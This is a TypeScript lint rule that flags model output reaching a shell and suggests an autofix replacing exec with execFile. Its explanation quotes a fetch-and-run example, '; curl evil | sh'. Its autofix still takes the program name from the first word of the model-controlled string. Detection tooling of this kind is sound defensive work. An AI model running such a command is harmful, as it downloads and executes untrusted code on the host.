import { modelOutputRule } from "./output-sink-rule";

export default modelOutputRule({
  id: "llm-output-command-injection",
  sink: "shell",
  meta: {
    description: "Report model-controlled data that reaches a shell (exec, spawn with shell, bash -c, execa shell, zx)",
    severity: "error", surveySection: "6.2.2", owasp: "LLM05:2025 Improper Output Handling", cwe: ["CWE-78", "CWE-77"], atlas: ["AML.T0050"],
    hasSuggestions: true,
    why: "Shell metacharacters in model output (`; curl evil | sh`) run as commands. Models follow injected instructions, so treat their output as attacker-controlled.",
  },
  consequence: "shell metacharacters in it run as commands. Use execFile/spawn with a fixed program and an argument array (no shell), and allow-list the arguments.",
  fixes(hit, ctx) {
    const c = hit.detail.container;
    if (!c || !hit.detail.api || !/^(\w+\.)?exec(Sync)?$/.test(hit.detail.api)) return [];
    const call = ctx.text(hit.file, c.start, c.end);
    const arg = ctx.text(hit.file, hit.start, hit.end);
    const sync = /Sync$/.test(hit.detail.api);
    const calleeEnd = call.indexOf("(");
    const callee = call.slice(0, calleeEnd).replace(/exec(Sync)?$/, sync ? "execFileSync" : "execFile");
    const rest = call.slice(calleeEnd + 1 + (call.slice(calleeEnd + 1).indexOf(arg) + arg.length));
    return [{
      title: `Replace \`${hit.detail.api}(cmd)\` with \`${sync ? "execFileSync" : "execFile"}(file, args)\` (no shell)`,
      suggestion: true,
      edits: [{ range: { start: c.start, end: c.end }, text: `${callee}(String(${arg}).split(" ")[0], String(${arg}).split(" ").slice(1)${rest}` }],
    }];
  },
});
